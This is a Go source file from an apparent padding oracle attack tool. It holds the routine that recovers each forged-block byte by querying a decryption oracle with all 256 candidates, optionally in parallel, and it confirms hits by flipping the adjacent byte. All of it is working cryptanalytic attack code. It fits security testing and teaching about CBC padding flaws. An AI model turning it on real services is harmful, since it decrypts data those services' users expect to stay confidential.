package attack

import (
	"context"
	"sync/atomic"

	"golang.org/x/sync/errgroup"
)

// findPaddingByte searches the byte at position blockSize-padding of the forged block that
// makes the oracle accept the probe. The smallest accepted value wins, whatever the number of
// workers.
//
// The first half of probe is the forged block with every other byte already in place, the
// second half is the target block.
func (a *Attacker) findPaddingByte(ctx context.Context, probe []byte, padding int) (byte, error) {
	if a.candidateWorkers > 1 {
		return a.findPaddingByteConcurrent(ctx, probe, padding)
	}

	for j := 0x0; j <= 0xff; j++ {
		ok, err := a.try(ctx, probe, byte(j), padding)
		if err != nil {
			return 0, err
		}
		if ok {
			return byte(j), nil
		}
	}

	return 0, &InconsistencyError{Padding: padding}
}

// findPaddingByteConcurrent hands candidates out in increasing order to the workers. A worker
// stops as soon as the next candidate is above the best one found so far, or above a candidate
// whose query failed, so every candidate below the final answer has been asked.
//
// The outcome is the one of the sequential search: a failed query only matters when no smaller
// candidate was accepted.
func (a *Attacker) findPaddingByteConcurrent(ctx context.Context, probe []byte, padding int) (byte, error) {
	var next, best, failed atomic.Int32
	best.Store(0x100)
	failed.Store(0x100)

	// errs[j] is only written by the worker that asked candidate j
	var errs [0x100]error

	var g errgroup.Group
	for w := 0; w < a.candidateWorkers; w++ {
		// each worker mutates its own copy
		buf := append([]byte(nil), probe...)

		g.Go(func() error {
			for {
				j := next.Add(1) - 1
				if j > 0xff || j > best.Load() || j > failed.Load() {
					return nil
				}

				ok, err := a.try(ctx, buf, byte(j), padding)
				if err != nil {
					errs[j] = err
					lower(&failed, j)
					continue
				}
				if ok {
					lower(&best, j)
				}
			}
		})
	}
	_ = g.Wait()

	b, f := best.Load(), failed.Load()
	if f < b {
		return 0, errs[f]
	}
	if b <= 0xff {
		return byte(b), nil
	}
	return 0, &InconsistencyError{Padding: padding}
}

// try queries the oracle with candidate b in place. probe is modified but restored
// to its original content except for the candidate position.
func (a *Attacker) try(ctx context.Context, probe []byte, b byte, padding int) (bool, error) {
	z := a.blockSize - padding
	probe[z] = b

	ok, err := a.oracle.TryDecrypt(ctx, probe)
	if err != nil || !ok {
		return false, err
	}

	if padding != 1 || a.verify != VerifyAdjacent || a.blockSize < 2 {
		return true, nil
	}

	// With 0x01 at the end, the byte before it doesn't matter. With 0x02 0x02 it does.
	probe[z-1] ^= 0x01
	ok, err = a.oracle.TryDecrypt(ctx, probe)
	probe[z-1] ^= 0x01
	if err != nil {
		return false, err
	}
	if !ok {
		a.debug("rejected padding candidate", b)
	}
	return ok, nil
}

func lower(v *atomic.Int32, n int32) {
	for {
		cur := v.Load()
		if n >= cur || v.CompareAndSwap(cur, n) {
			return
		}
	}
}
